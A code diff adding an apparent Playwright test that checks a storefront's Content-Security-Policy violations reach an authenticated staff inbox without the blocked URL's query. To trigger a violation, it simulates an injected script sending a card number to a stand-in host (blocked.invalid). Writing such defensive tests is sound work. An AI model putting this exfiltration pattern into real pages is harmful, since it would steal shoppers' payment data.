@@ -261,3 +261,39 @@ describe('shared visits in the support console', () => {
     await shopper.close();
   }, 120_000);
 });
+
+describe("the page's policy violations", () => {
+  // Chromium driven by Playwright delivers no Reporting API report (none in 90 s, with or without background
+  // networking), and sends report-uri's only where a policy has no report-to. So the page's own report, as its
+  // ReportingObserver sees it, is sent the way Chromium's reporting service sends it (application/reports+json, to
+  // the endpoint the page's Reporting-Endpoints header names), and the inbox must keep it.
+  it('reach the inbox at the endpoint the page names, as the browser reports them, kept without the query for staff to read', async () => {
+    const shopper = await shopperOnMenu();
+    const response = await fetch(storefront.origin);
+    const endpoint = /csp="([^"]+)"/.exec(response.headers.get('reporting-endpoints') ?? '')?.[1];
+    expect(endpoint).toBe('/inbox/csp-reports');
+    expect(response.headers.get('content-security-policy')).toMatch(/report-to csp(;|$)/);
+    // A call the policy does not allow (connect-src), as an injected script would make it.
+    const sent = await shopper.page.evaluate(async (to) => {
+      const seen = new Promise<Report[]>((resolve) => {
+        const observer = new ReportingObserver((reports) => resolve(reports), { types: ['csp-violation'], buffered: true });
+        observer.observe();
+      });
+      await fetch('https://blocked.invalid/collect?card=4111').catch(() => undefined);
+      const reports = await seen;
+      const body = reports.map((report) => ({ type: report.type, url: report.url, age: 0, user_agent: navigator.userAgent, body: report.body }));
+      const answer = await fetch(to, { method: 'POST', headers: { 'Content-Type': 'application/reports+json' }, body: JSON.stringify(body) });
+      return { status: answer.status, directives: reports.map((report) => (report.body as unknown as { effectiveDirective: string }).effectiveDirective) };
+    }, endpoint!);
+    expect(sent).toEqual({ status: 204, directives: ['connect-src'] });
+    expect(storefront.takePolicyViolations().join('\n')).toMatch(/connect-src/);
+    const { token } = await inbox.staffToken();
+    const answer = await fetch(`${storefront.origin}/inbox/csp-reports`, { headers: { Authorization: `Bearer ${token}` } });
+    const { reports } = (await answer.json()) as { reports: { documentUri: string; blockedUri: string; directive: string }[] };
+    expect(reports).toContainEqual(
+      expect.objectContaining({ documentUri: `${storefront.origin}/`, blockedUri: 'https://blocked.invalid/collect', directive: 'connect-src' }),
+    );
+    expect(JSON.stringify(reports)).not.toContain('4111');
+    await shopper.close();
+  });
+});
